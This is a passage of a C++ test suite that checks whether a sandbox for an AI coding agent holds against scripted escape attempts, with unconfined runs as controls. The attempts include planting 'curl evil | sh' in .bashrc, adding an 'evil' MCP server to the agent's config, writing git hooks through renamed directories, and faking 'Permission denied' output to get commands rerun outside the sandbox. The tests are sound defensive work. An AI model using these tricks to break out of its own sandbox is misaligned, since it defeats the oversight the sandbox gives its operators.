      if (attempt.needs_mounts && WithoutNamespaces(config) &&
          attempt.channel != "nested and parent repos") {
        continue;
      }
      // Kernels without IA-32 emulation answer int 0x80 with SIGSEGV even unconfined.
      static const bool ia32 = RunProcess({Probe(), "int80"}, "/").signal != SIGSEGV;
      if (attempt.args[0] == "int80" && !ia32) {
        std::printf("[ skipped  ] %s: no IA-32 emulation in this kernel\n", attempt.name.c_str());
        continue;
      }
      if (landlock::Abi() < attempt.min_abi) {
        std::printf("[ skipped  ] %s: needs Landlock ABI %d\n", attempt.name.c_str(),
                    attempt.min_abi);
        continue;
      }
      if (attempt.channel == "process tree") {
        attempt.survivor = fmt::format("3{:06d}.{:04d}", ::getpid() % 1000000, ++marker_count);
        attempt.args[2] = attempt.survivor;
        if (attempt.kill_agentexec != 0) attempt.args.push_back("wait");
      }
      std::vector<std::string> argv = UserPrefix(config);
      if (!attempt.inherit.empty()) {
        for (const std::string& a :
             {std::string("sh"), std::string("-c"),
              "exec " + attempt.inherit_as + "\"$0\"; exec \"$@\"", attempt.inherit}) {
          argv.push_back(a);
        }
      }
      // The suite configures the sandbox on the command line alone: no user config (the
      // unprivileged user could not read root's anyway).
      for (const char* a : {Bin(), "sandbox", "--ignore-user-config", "-s"}) {
        argv.push_back(a);
      }
      argv.push_back(config == Config::kNone ? "danger-full-access" : attempt.mode);
      for (const char* a : {"-c", "sandbox_workspace_write.exclude_slash_tmp=true", "-c",
                            "sandbox_workspace_write.exclude_tmpdir_env_var=true"}) {
        argv.push_back(a);
      }
      argv.insert(argv.end(), attempt.extra.begin(), attempt.extra.end());
      argv.push_back("--");
      argv.push_back(Probe());
      argv.insert(argv.end(), attempt.args.begin(), attempt.args.end());

      if (config == Config::kNone) Restore();
      if (attempt.inherit_as.rfind("2>", 0) == 0) WriteText(attempt.inherit, "");
      const std::string before = Snapshot();
      const std::string cwd = attempt.cwd.empty() ? ws_ : attempt.cwd;
      Ran ran = attempt.kill_agentexec != 0
                    ? RunAndKill(argv, cwd, env, attempt.survivor, attempt.kill_agentexec)
                : attempt.pty ? RunInPty(argv, cwd)
                              : RunProcess(argv, cwd, env);
      // agentexec's own warnings went where the command's stderr did.
      if (attempt.inherit_as.rfind("2>", 0) == 0) ran.output += ReadText(attempt.inherit);
      ++ran_count;
      Tally& tally = (*table)[attempt.channel];
      ++tally.attempts;
      std::string why;
      if (attempt.survivor.empty() && ran.exit_code == 0) why = "the probe succeeded";
      if (!attempt.survivor.empty() && !GoneWithin(attempt.survivor, 1500)) {
        why += " a process it started outlived it;";
      }
      if (Snapshot() != before) why += " protected files changed;";
      if (std::string files = PrivilegedFiles(); !files.empty()) {
        why += " privileged files:" + files + ";";
      }
      if (!SiblingAlive()) why += " the sibling died;";
      if (Pending(tcp_)) why += " the loopback listener got a connection;";
      if (Pending(abstract_)) why += " the abstract socket got a connection;";
      for (const auto& [path, listener] : host_sockets_) {
        if (Pending(listener)) why += " the host Unix socket " + path + " got a connection;";
      }
      if (ran.exit_code == 2 || ran.exit_code == 3) why += " the sandbox did not run the probe;";
      if (!why.empty()) {
        ++*escapes;
        ++tally.escapes;
        if (config == Config::kNone) {
          if (!SiblingAlive()) StartSibling();
        } else if (limit && ran.output.find(attempt.ns_warning.empty()
                                                ? "could not create a"
                                                : attempt.ns_warning) != std::string::npos) {
          ++tally.limits;  // degraded, and the run said so
          std::printf("[ limit    ] %s:%s\n", attempt.name.c_str(), why.c_str());
        } else {
          ADD_FAILURE() << "ESCAPE: " << attempt.name << ": " << why << "\n" << ran.output;
        }
      } else if (config == Config::kNone) {
        ADD_FAILURE() << "not seen as an escape without a sandbox: " << attempt.name << "\n"
                      << ran.output;
        if (!SiblingAlive()) StartSibling();
      } else if (!attempt.survivor.empty()) {
        // Contained: the probe itself may succeed (it only starts the daemon).
      } else if (ran.output.find("denied: ") == std::string::npos && ran.signal != SIGSYS) {
        // Neither refused by the kernel nor killed by the filter: the probe never ran.
        ADD_FAILURE() << "INCONCLUSIVE: " << attempt.name << "\n" << ran.output;
      } else if (!attempt.expect.empty() && ran.output.find(attempt.expect) == std::string::npos) {
        ADD_FAILURE() << "refused for another reason than expected (" << attempt.expect
                      << "): " << attempt.name << "\n"
                      << ran.output;
      }
    }
    return ran_count;
  }

  static std::vector<std::string> UserPrefix(Config config) {
    if (!Unprivileged(config)) return {};
    return {"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"};
  }

  // `prefix` (empty, or setpriv to nobody), then agentexec on the scripted provider that
  // reads base_/turns.json; the caller adds the rest of the command line.
  std::vector<std::string> ScriptedRun(std::vector<std::string> prefix) const {
    prefix.insert(prefix.end(), {Bin(), "-c", "model_provider=scripted", "-c",
                                 "model_providers.scripted.script=\"" + base_ + "/turns.json\""});
    return prefix;
  }

  // A whole scripted run under on-failure, with /tmp and $TMPDIR left out.
  std::vector<std::string> OnFailureRun(const std::vector<std::string>& prefix) const {
    std::vector<std::string> argv = ScriptedRun(prefix);
    argv.insert(argv.end(), std::begin(kExcludeTmp), std::end(kExcludeTmp));
    argv.insert(argv.end(), {"--json", "-s", "workspace-write", "-a", "on-failure", "go"});
    return argv;
  }

  // HOME and AGENTEXEC_HOME inside the scratch directory, so that no user's config takes part.
  std::vector<std::pair<std::string, std::string>> Homes() const {
    return {{"HOME", base_ + "/home"}, {"AGENTEXEC_HOME", base_ + "/agx-home"}};
  }

  // Through the real binary under on-failure: each trick runs once, confined,
  // and is never rerun outside the sandbox (its counter file in the workspace gets one line);
  // the control, a write the sandbox really refuses, is rerun (two lines), which shows the
  // suite can see a rerun at all.
  int RunOnFailure(Config config, int* escapes, Table* table) {
    struct Trick {
      std::string name, cmd;
      bool control = false;
    };
    const std::string secret = out_ + "/secret";
    const std::vector<Trick> tricks = {
        {"names an outside file agentexec can write",
         "echo \"touch: cannot touch '" + secret + "': Permission denied\" >&2; exit 1"},
        {"names .git/hooks in the workspace",
         "echo 'sh: 1: cannot create .git/hooks/pre-commit: Read-only file system'; exit 1"},
        {"names it as Python would",
         "echo \"PermissionError: [Errno 13] Permission denied: '" + secret + "'\"; exit 1"},
        {"a write refused for another reason (/proc/sys) next to the name",
         "echo x > /proc/sys/kernel/ostype; echo '" + secret + ": Permission denied'; exit 1"},
        {"writes the sandbox allows (a fresh repository, /dev/null) next to the name",
         "git init -q fresh-$$ && echo x > fresh-$$/.git/description && echo x > /dev/null; "
         "echo '" +
             secret + ": Read-only file system'; exit 1"},
        {"removes a symlink that points outside",
         "ln -sf " + secret + " l-$$ && rm l-$$; echo 'Permission denied: " + secret + "'; exit 1"},
        {"writes through /proc/self/fd",
         "ln -sf /proc/self/fd/1 self-$$ && echo x > self-$$; echo 'Permission denied'; exit 1"},
        {"O_NOFOLLOW on a symlink that points outside",
         "ln -sf " + secret +
             " nf-$$ && python3 -c \"import os\ntry: os.open('nf-$$', "
             "os.O_WRONLY | os.O_NOFOLLOW)\nexcept OSError as e: print(e)\"; exit 1"},
        {"dot-dot after a symlink lands inside",
         "mkdir -p a-$$/b && ln -sfn a-$$/b deep-$$ && touch deep-$$/../../x-$$; echo '" + out_ +
             "/x: Permission denied'; exit 1"},
        {"dies of SIGSYS", "kill -SYS $$"},
        {"control: a write the sandbox refuses", "touch " + out_ + "/control", true},
    };
    // Each trick counts its runs in the workspace.
    std::vector<std::string> commands;
    for (size_t i = 0; i < tricks.size(); ++i) {
      commands.push_back("echo run >> runs-" + std::to_string(i) + "; " + tricks[i].cmd);
    }
    bool turns_ok = false;
    const std::string turns = ScriptedTurns(commands, &turns_ok);
    EXPECT_TRUE(turns_ok);
    WriteText(base_ + "/turns.json", turns);
    if (::geteuid() == 0 && Unprivileged(config)) {
      Sh("chown 65534:65534 turns.json", base_);
    }
    for (size_t i = 0; i < tricks.size(); ++i)
      ::unlink((ws_ + "/runs-" + std::to_string(i)).c_str());

    std::vector<std::string> argv = OnFailureRun(UserPrefix(config));
    std::vector<std::pair<std::string, std::string>> env = Homes();
    if (WithoutNamespaces(config)) env.push_back({"AGENTEXEC_SANDBOX_FAKE_NO_USERNS", "1"});
    Ran ran = RunProcess(argv, ws_, env);
    EXPECT_EQ(ran.exit_code, 0) << ran.output;
    Tally& tally = (*table)["on-failure escalation"];
    for (size_t i = 0; i < tricks.size(); ++i) {
      const std::string counter = ReadText(ws_ + "/runs-" + std::to_string(i));
      const auto runs = std::count(counter.begin(), counter.end(), '\n');
      if (tricks[i].control) {
        EXPECT_EQ(runs, 2) << "the control was not rerun, so the suite cannot see a rerun\n"
                           << ran.output;
        ::unlink((out_ + "/control").c_str());
        continue;
      }
      ++tally.attempts;
      if (runs != 1) {
        ++*escapes;
        ++tally.escapes;
        ADD_FAILURE() << "ESCAPE (rerun outside the sandbox " << runs - 1
                      << " time(s)): " << tricks[i].name << "\n"
                      << ran.output;
      }
    }
    return tally.attempts;
  }

  // Every attempt and every on-failure trick in `config`, printed as a table titled `title`;
  // returns the number of attempts.
  int RunConfig(Config config, const char* title, int* escapes, Table* table) {
    int attempts = RunAll(config, escapes, table);
    EXPECT_GE(RunOnFailure(config, escapes, table), 10);
    attempts += (*table)["on-failure escalation"].attempts;
    std::printf("[ escapes  ] %s: %d attempts, %d escapes\n", title, attempts, *escapes);
    PrintTable(title, *table);
    return attempts;
  }

  // The channels above must each have run in the full configuration.
  static void ExpectChannels(const Table& table) {
    for (const char* channel :
         {"process tree", "inherited descriptors", "terminal", "nested and parent repos",
          "set-id bits and capabilities", "caller's stdio on outside files", "host unix sockets",
          "metadata outside the roots"}) {
      auto it = table.find(channel);
      EXPECT_TRUE(it != table.end() && it->second.attempts >= 4) << "too few attempts: " << channel;
    }
  }

  ScratchDir dir_;
  std::string base_, ws_, out_;
  pid_t sibling_ = -1;
  int tcp_ = -1, abstract_ = -1;
  int pty_master_ = -1;
  std::string pty_slave_;
  int tcp_port_ = 0;
  std::string abstract_name_;
  std::vector<std::pair<std::string, int>> host_sockets_;  // path, listening socket
  std::string stderr_log_;
};

TEST_F(EscapeSuite, FullSandboxHasNoEscapes) {
  Ran check = RunProcess({Bin(), "sandbox", "-s", "workspace-write", "--", "true"}, ws_);
  ASSERT_EQ(check.exit_code, 0) << check.output;
  if (check.output.find("could not create a") != std::string::npos) {
    GTEST_SKIP() << "no mount or PID namespace on this host; see "
                    "LandlockAndSeccompAloneHaveNoEscapes: "
                 << check.output;
  }
  int escapes = 0;
  Table table;
  int attempts = RunConfig(Config::kFull, "full sandbox (root)", &escapes, &table);
  EXPECT_GE(attempts, 180);
  ExpectChannels(table);
  EXPECT_EQ(escapes, 0);
}

TEST_F(EscapeSuite, LandlockAndSeccompAloneHaveNoEscapes) {
  int escapes = 0;
  Table table;
  int attempts = RunConfig(Config::kLandlockSeccompOnly,
                           "landlock + seccomp only (root, no namespaces)", &escapes, &table);
  EXPECT_GE(attempts, 130);
  int limits = 0;
  for (const auto& [channel, t] : table) limits += t.limits;
  EXPECT_EQ(escapes, limits) << "every escape here must be a limit the run warned about";
}

// The degradations above are fatal when the user says so.
TEST_F(EscapeSuite, RequireFullIsolationMakesDegradationFatal) {
  Ran ran = RunProcess({Bin(), "sandbox", "-s", "workspace-write", "-c",
                        "require_full_isolation=true", "--", "true"},
                       ws_, {{"AGENTEXEC_SANDBOX_FAKE_NO_USERNS", "1"}});
  EXPECT_EQ(ran.exit_code, 3) << ran.output;
  EXPECT_NE(ran.output.find("sandbox: cannot enforce workspace-write with full isolation "
                            "(require_full_isolation = true): .git, .agentexec, .codex and "
                            "protected_paths are writable in this run: could not create a mount "
                            "namespace (unshare: Operation not permitted)"),
            std::string::npos)
      << ran.output;
  ran = RunProcess(
      {Bin(), "sandbox", "-s", "read-only", "-c", "require_full_isolation=true", "--", "true"}, ws_,
      {{"AGENTEXEC_SANDBOX_FAKE_NO_PIDNS", "1"}});
  EXPECT_EQ(ran.exit_code, 3) << ran.output;
  EXPECT_NE(ran.output.find("processes a command leaves running (setsid, daemons) can outlive "
                            "it in this run: could not create a PID namespace (unshare: "
                            "Operation not permitted)"),
            std::string::npos)
      << ran.output;
  // Without the key the same run goes ahead, and says what it lacks.
  ran = RunProcess({Bin(), "sandbox", "-s", "read-only", "--", "true"}, ws_,
                   {{"AGENTEXEC_SANDBOX_FAKE_NO_PIDNS", "1"}});
  EXPECT_EQ(ran.exit_code, 0) << ran.output;
  EXPECT_NE(ran.output.find("could not create a PID namespace"), std::string::npos) << ran.output;
}

TEST_F(EscapeSuite, TheSuiteSeesEscapesWithoutASandbox) {
  int escapes = 0;
  Table table;
  int attempts = RunAll(Config::kNone, &escapes, &table);
  PrintTable("no sandbox (negative control)", table);
  ASSERT_GE(attempts, 50);
  ExpectChannels(table);
  EXPECT_EQ(escapes, attempts);
}

// Switches the fixture to nobody; false (with the reason in *skip) when that cannot run here.
// *check_output gets what `agentexec sandbox` said as nobody (its warnings).
bool EscapeSuite_BecomeNobody(const std::string& base, const std::string& ws, std::string* skip,
                              std::string* check_output) {
  if (::geteuid() != 0) {
    *skip = "needs root to switch to an unprivileged user";
    return false;
  }
  if (RunProcess({"setpriv", "--version"}, "/").exit_code != 0) {
    *skip = "setpriv is not installed";
    return false;
  }
  Sh("chown -R 65534:65534 " + base, "/");
  Ran check =
      RunProcess({"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--", Bin(),
                  "sandbox", "--ignore-user-config", "-s", "workspace-write", "--", "true"},
                 ws);
  if (check.exit_code != 0) {
    *skip = "agentexec is not runnable as nobody here: " + check.output;
    return false;
  }
  *check_output = check.output;
  return true;
}

TEST_F(EscapeSuite, UnprivilegedUserHasNoEscapes) {
  std::string skip, check;
  if (!EscapeSuite_BecomeNobody(base_, ws_, &skip, &check)) GTEST_SKIP() << skip;
  if (check.find("could not create a mount namespace") != std::string::npos) {
    GTEST_SKIP() << "unprivileged user namespaces are refused here: " << check;
  }
  int escapes = 0;
  Table table;
  int attempts =
      RunConfig(Config::kUnprivileged, "unprivileged user (user namespace)", &escapes, &table);
  EXPECT_GE(attempts, 150);
  ExpectChannels(table);
  EXPECT_EQ(escapes, 0);
}

// Docker's default seccomp profile refuses unshare: an unprivileged user with Landlock and
// seccomp alone. Every escape must be a limit the run warned about.
TEST_F(EscapeSuite, UnprivilegedWithoutNamespacesHasOnlyWarnedLimits) {
  std::string skip, check;
  if (!EscapeSuite_BecomeNobody(base_, ws_, &skip, &check)) GTEST_SKIP() << skip;
  int escapes = 0;
  Table table;
  int attempts =
      RunConfig(Config::kUnprivilegedNoNamespaces,
                "unprivileged user, landlock + seccomp only (no namespaces)", &escapes, &table);
  EXPECT_GE(attempts, 110);
  int limits = 0;
  for (const auto& [channel, t] : table) limits += t.limits;
  EXPECT_EQ(escapes, limits) << "every escape here must be a limit the run warned about";
}

// ---------------------------------------------------------------------------------------------
// Carve-outs held by identity. A carve-out is protected where its directory is, not where it
// was when the session started: a confined command may rename a repository's parent (only
// `.git` itself is a mount point) and write the hooks under the new name in the next command;
// agentexec's home may lie in the workspace under any name. Each attempt is one `agentexec
// exec` run with the scripted provider (several commands, one session), under `-a never`: a
// refused write is not rerun there, so what gets out got out of the sandbox.

struct CarveoutAttempt {
  std::string name;
  std::vector<std::string> commands;  // run in this order, in one session
  bool slash_tmp = false;             // /tmp writable (else excluded, with $TMPDIR)
  std::vector<std::pair<std::string, std::string>> env;
  std::string approval = "never";
  // The escape: returns what got out ("" when nothing did).
  std::function<std::string(const Ran&)> escaped;
};

class CarveoutEscapes : public EscapeSuite {
 protected:
  // Runs every attempt as `prefix` (empty, or setpriv to nobody) and returns the table; an
  // escape fails the test, unless this is the unconfined control.
  Tally RunCarveoutAttempts(const std::vector<std::string>& prefix, bool control = false) {
    const std::string hook = "#!/bin/sh\\necho pwned\\n";
    const std::string lib = ws_ + "/vendor/lib", tmp_lib = base_ + "/tmprepo/lib";
    const std::string home = ws_ + "/ci-cache/agentexec", codex = ws_ + "/ci-cache/codex";
    const std::string home_config = "# kept by CI\n";
    auto file_exists = [](std::vector<std::string> paths) {
      return [paths](const Ran&) {
        std::string found;
        for (const std::string& p : paths) {
          if (testing::Exists(p)) found += " " + p;
        }
        return found;
      };
    };
    auto changed = [home_config](std::string path) {
      return [path, home_config](const Ran&) {
        std::string now = ReadText(path);
        return now == home_config ? std::string() : path + " now holds: " + now;
      };
    };
    const std::vector<CarveoutAttempt> attempts = {
        {"nested repository: rename its parent, write the hook under the new name",
         {"mv vendor/lib vendor/lib2",
          "printf '" + hook + "' > vendor/lib2/.git/hooks/pre-commit; mv vendor/lib2 vendor/lib"},
         false,
         {},
         "never",
         file_exists({lib + "/.git/hooks/pre-commit", lib + "2/.git/hooks/pre-commit"})},
        {"repository under /tmp: rename its parent, write the hook under the new name",
         {"mv " + tmp_lib + " " + tmp_lib + "2", "printf '" + hook + "' > " + tmp_lib +
                                                     "2/.git/hooks/pre-commit; mv " + tmp_lib +
                                                     "2 " + tmp_lib},
         true,
         {},
         "never",
         file_exists({tmp_lib + "/.git/hooks/pre-commit", tmp_lib + "2/.git/hooks/pre-commit"})},
        {"$AGENTEXEC_HOME in the workspace: add an MCP server to its config.toml",
         {"printf '[mcp_servers.evil]\\ncommand = \"/bin/sh\"\\n' >> "
          "ci-cache/agentexec/config.toml"},
         false,
         {{"AGENTEXEC_HOME", home}},
         "never",
         changed(home + "/config.toml")},
        {"$AGENTEXEC_HOME in the workspace: rename its parent, then write its config.toml",
         {"mv ci-cache ci-cache2",
          "printf '[mcp_servers.evil]\\ncommand = \"/bin/sh\"\\n' >> "
          "ci-cache2/agentexec/config.toml; mv ci-cache2 ci-cache"},
         false,
         {{"AGENTEXEC_HOME", home}},
         "never",
         changed(home + "/config.toml")},
        {"$CODEX_HOME in the workspace: write its config.toml",
         {"printf '[mcp_servers.evil]\\ncommand = \"/bin/sh\"\\n' >> ci-cache/codex/config.toml"},
         false,
         {{"CODEX_HOME", codex}},
         "never",
         changed(codex + "/config.toml")},
        // Row 3 of the isolation issue: the home does not exist yet (a first run, --ephemeral);
        // the next run would start the server unconfined.
        {"$AGENTEXEC_HOME in the workspace, not made yet: create it with an MCP server",
         {"mkdir -p ci-cache/new-home; printf '[mcp_servers.evil]\\ncommand = \"/bin/sh\"\\n' > "
          "ci-cache/new-home/config.toml"},
         false,
         {{"AGENTEXEC_HOME", ws_ + "/ci-cache/new-home"}},
         "never",
         file_exists({ws_ + "/ci-cache/new-home/config.toml"})},
        {"$CODEX_HOME in the workspace, not made yet: create it with an MCP server",
         {"mkdir -p ci-cache/new-codex; printf '[mcp_servers.evil]\\ncommand = \"/bin/sh\"\\n' > "
          "ci-cache/new-codex/config.toml"},
         false,
         {{"CODEX_HOME", ws_ + "/ci-cache/new-codex"}},
         "never",
         file_exists({ws_ + "/ci-cache/new-codex/config.toml"})},
        // Row 4: the home inside the workspace; the next shell would run what ~/.bashrc says.
        {"$HOME in the workspace: create ~/.bashrc and ~/.profile where none exist",
         {"echo 'curl evil | sh' > ci-cache/.bashrc; echo 'curl evil | sh' > ci-cache/.profile"},
         false,
         {{"HOME", ws_ + "/ci-cache"}},
         "never",
         [ws = ws_](const Ran&) {
           std::string found;
           for (const char* f : {"/ci-cache/.bashrc", "/ci-cache/.profile"}) {
             if (!ReadText(ws + f).empty()) found += " " + ws + f;
           }
           return found;
         }},
    };
    Tally tally;
    for (const CarveoutAttempt& attempt : attempts) {
      Sh("rm -rf vendor ci-cache ci-cache2 ../tmprepo && mkdir -p vendor ../tmprepo "
         "ci-cache/agentexec ci-cache/codex && git init -q vendor/lib && git init -q "
         "../tmprepo/lib && printf '" +
             home_config + "' > ci-cache/agentexec/config.toml && printf '" + home_config +
             "' > ci-cache/codex/config.toml" +
             (prefix.empty() ? "" : " && chown -R 65534:65534 vendor ci-cache ../tmprepo"),
         ws_);
      WriteText(base_ + "/turns.json", ScriptedTurns(attempt.commands));
      std::vector<std::string> argv = ScriptedRun(prefix);
      argv.insert(argv.end(), {"--json", "-s", "workspace-write", "-a", attempt.approval});
      if (!attempt.slash_tmp) {
        argv.insert(argv.end(), std::begin(kExcludeTmp), std::end(kExcludeTmp));
      }
      if (control) argv.insert(argv.end(), {"-s", "danger-full-access"});
      argv.push_back("go");
      std::vector<std::pair<std::string, std::string>> env = Homes();
      for (const auto& set : attempt.env) {
        std::erase_if(env, [&](const auto& e) { return e.first == set.first; });
        env.push_back(set);
      }
      Ran ran = RunProcess(argv, ws_, env);
      ++tally.attempts;
      EXPECT_EQ(ran.exit_code, 0) << attempt.name << "\n" << ran.output;
      // Every command ran (no setup failure hid the attempt).
      EXPECT_EQ(ran.output.find("could not be set up"), std::string::npos) << ran.output;
      const std::string got = attempt.escaped(ran);
      if (!got.empty()) {
        ++tally.escapes;
        if (!control) {
          ADD_FAILURE() << "ESCAPE: " << attempt.name << ":" << got << "\n" << ran.output;
        }
      }
    }
    return tally;
  }

  void Report(const char* config, const Tally& tally) {
    std::printf("[ escapes  ] carve-outs held by identity, %s: %d attempts, %d escapes\n", config,
                tally.attempts, tally.escapes);
  }
};

TEST_F(CarveoutEscapes, RenamedRepositoriesAndHomesStayReadOnly) {
  Ran check = RunProcess({Bin(), "sandbox", "-s", "workspace-write", "--", "true"}, ws_);
  ASSERT_EQ(check.exit_code, 0) << check.output;
  if (check.output.find("could not create a mount namespace") != std::string::npos) {
    GTEST_SKIP() << "no mount namespace on this host (carve-outs are a warned limit): "
                 << check.output;
  }
  Tally tally = RunCarveoutAttempts({});
  Report("full sandbox (root)", tally);
  EXPECT_EQ(tally.attempts, 8);
  EXPECT_EQ(tally.escapes, 0);
}

// The control: without the sandbox every attempt gets out, so the table above can fail.
TEST_F(CarveoutEscapes, EveryAttemptGetsOutUnconfined) {
  Tally tally = RunCarveoutAttempts({}, /*control=*/true);
  Report("no sandbox (control)", tally);
  EXPECT_EQ(tally.attempts, 8);
  EXPECT_EQ(tally.escapes, 8);
}

TEST_F(CarveoutEscapes, RenamedRepositoriesAndHomesStayReadOnlyUnprivileged) {
  std::string skip, check;
  if (!EscapeSuite_BecomeNobody(base_, ws_, &skip, &check)) GTEST_SKIP() << skip;
  if (check.find("could not create a mount namespace") != std::string::npos) {
    GTEST_SKIP() << "unprivileged user namespaces are refused here: " << check;
  }
  Sh("chown 65534:65534 .", base_);
  Tally tally = RunCarveoutAttempts(UserPrefix(Config::kUnprivileged));
  Report("unprivileged user (user namespace)", tally);
  EXPECT_EQ(tally.attempts, 8);
  EXPECT_EQ(tally.escapes, 0);
}

// A carve-out that disappears while a command's sandbox is being set up (another process
// removed it between the moment the child found it and the mount) has nothing left to
// protect: the command runs, and no sandbox failure is reported, so on-failure reruns
// nothing outside the sandbox. AGENTEXEC_SANDBOX_FAKE_VANISH removes it at that moment.
TEST_F(CarveoutEscapes, ACarveoutThatVanishesDuringSetUpIsSkipped) {
  Ran check = RunProcess({Bin(), "sandbox", "-s", "workspace-write", "--", "true"}, ws_);
  ASSERT_EQ(check.exit_code, 0) << check.output;
  if (check.output.find("could not create a mount namespace") != std::string::npos) {
    GTEST_SKIP() << "no mount namespace on this host: " << check.output;
  }
  Sh("mkdir -p gone/.git", ws_);
  // It records whether it ran confined (.git read-only) or was rerun outside.
  WriteText(base_ + "/turns.json",
            ScriptedTurns({"if touch .git/probe 2>/dev/null; then echo unconfined >> runs-vanish; "
                           "else echo confined >> runs-vanish; fi; echo still here"}));
  std::vector<std::pair<std::string, std::string>> env = Homes();
  env.push_back({"AGENTEXEC_SANDBOX_FAKE_VANISH", ws_ + "/gone/.git"});
  Ran ran = RunProcess(OnFailureRun({}), ws_, env);
  EXPECT_EQ(ran.exit_code, 0) << ran.output;
  // The hook did remove it (else this test could not fail).
  EXPECT_FALSE(testing::Exists(ws_ + "/gone/.git")) << ran.output;
  EXPECT_EQ(ReadText(ws_ + "/runs-vanish"), "confined\n") << ran.output;
  EXPECT_NE(ran.output.find("still here"), std::string::npos) << ran.output;
  EXPECT_EQ(ran.output.find("sandbox: make read-only"), std::string::npos) << ran.output;
  EXPECT_EQ(ran.output.find("denied by the sandbox"), std::string::npos) << ran.output;
}

// ---- Kernel gaps: without the mount namespace every user is told what it can still do to
// files outside the roots, in words true for it, and the attempt does exactly that.
// A command cannot hide a nested repository from the next run by taking its own mode bits
// off a directory above it (chmod 311: searchable, not listable by its owner; the walk cannot
// see below it): what the walk cannot see is kept read-only whole. Two runs, as the user who
// owns the workspace (root sees through any mode).
TEST_F(EscapeSuite, AClosedDirectoryHidesNoRepositoryFromTheNextRun) {
  Sh("mkdir -p vendor/lib vendor/leaf && git init -q vendor/lib && "
     "echo 'gitdir: ../../nested/.git' > vendor/leaf/.git",
     ws_);
  std::string skip, check;
  if (!EscapeSuite_BecomeNobody(base_, ws_, &skip, &check)) GTEST_SKIP() << skip;
  const std::vector<std::string> nobody = UserPrefix(Config::kUnprivileged);
  auto run = [&](const std::string& script) {
    std::vector<std::string> argv = nobody;
    for (const char* arg :
         {Bin(), "sandbox", "--ignore-user-config", "-s", "workspace-write", "--", "sh", "-c"}) {
      argv.push_back(arg);
    }
    argv.push_back(script);
    return RunProcess(argv, ws_);
  };
  Ran first = run("chmod 311 vendor");
  ASSERT_EQ(first.exit_code, 0) << first.output;
  Ran second = run("echo evil > vendor/lib/.git/hooks/pre-commit; echo x > vendor/new");
  EXPECT_FALSE(testing::Exists(ws_ + "/vendor/lib/.git/hooks/pre-commit")) << second.output;
  EXPECT_FALSE(testing::Exists(ws_ + "/vendor/new")) << second.output;
  EXPECT_NE(second.output.find("vendor/lib/.git/hooks/pre-commit: Read-only file system"),
            std::string::npos)
      << second.output;
  Sh("chmod 755 vendor", ws_);
}

TEST_F(EscapeSuite, MetadataWarningWithoutNamespacesIsTrueForEveryUser) {
  const std::string secret = out_ + "/secret";
  const std::vector<std::string> sandbox = {Bin(),
                                            "sandbox",
                                            "--ignore-user-config",
                                            "-s",
                                            "workspace-write",
                                            "-c",
                                            "sandbox_workspace_write.exclude_slash_tmp=true",
                                            "-c",
                                            "sandbox_workspace_write.exclude_tmpdir_env_var=true",
                                            "--",
                                            Probe(),
                                            "chmod"};
  auto run = [&](std::vector<std::string> prefix, const std::string& path) {
    prefix.insert(prefix.end(), sandbox.begin(), sandbox.end());
    prefix.push_back(path);
    return RunProcess(prefix, ws_, {{"AGENTEXEC_SANDBOX_FAKE_NO_USERNS", "1"}});
  };
  const std::string cause =
      ": could not create a mount namespace (unshare: Operation not permitted)";
  const std::string root_warning =
      "sandbox: running as root, commands can change the mode, owner, times and extended "
      "attributes of any file outside the writable roots in this run" +
      cause + "\n";
  const std::string user_warning =
      "sandbox: commands can change the mode, times and extended attributes of the files this "
      "user owns outside the writable roots in this run" +
      cause + "\n";
  if (::geteuid() == 0) {
    Ran ran = run({}, secret);
    EXPECT_NE(ran.output.find(root_warning), std::string::npos) << ran.output;
    EXPECT_EQ(ran.output.find(user_warning), std::string::npos) << ran.output;
    EXPECT_EQ(ran.exit_code, 0) << ran.output;  // as warned
  }
  std::string skip, check;
  if (!EscapeSuite_BecomeNobody(base_, ws_, &skip, &check)) GTEST_SKIP() << skip;
  const std::string roots = out_ + "/roots";  // not the user's
  WriteText(roots, "r\n");
  ASSERT_EQ(::chmod(roots.c_str(), 0644), 0);
  ASSERT_EQ(::chmod(secret.c_str(), 0644), 0);
  const std::vector<std::string> nobody = UserPrefix(Config::kUnprivileged);
  Ran ran = run(nobody, secret);
  EXPECT_NE(ran.output.find(user_warning), std::string::npos) << ran.output;
  EXPECT_EQ(ran.output.find(root_warning), std::string::npos) << ran.output;
  // Its own file changes, as the warning says; another's does not.
  EXPECT_EQ(ran.exit_code, 0) << ran.output;
  struct stat st = {};
  ASSERT_EQ(::stat(secret.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0777u);
  ran = run(nobody, roots);
  EXPECT_EQ(ran.exit_code, 1) << ran.output;
  EXPECT_NE(ran.output.find("denied: chmod: Operation not permitted"), std::string::npos)
      << ran.output;
  // With the namespace (where the kernel gives an unprivileged user one) nothing is said and
  // the file cannot change.
  if (check.find("could not create a mount namespace") == std::string::npos) {
    ASSERT_EQ(::chmod(secret.c_str(), 0644), 0);
    std::vector<std::string> argv = nobody;
    argv.insert(argv.end(), sandbox.begin(), sandbox.end());
    argv.push_back(secret);
    ran = RunProcess(argv, ws_);
    EXPECT_EQ(ran.output.find("outside the writable roots in this run"), std::string::npos)
        << ran.output;
    EXPECT_NE(ran.output.find("denied: chmod: Read-only file system"), std::string::npos)
        << ran.output;
    ASSERT_EQ(::stat(secret.c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 07777, 0644u);
  }
}

}  // namespace
}  // namespace ae::sandbox
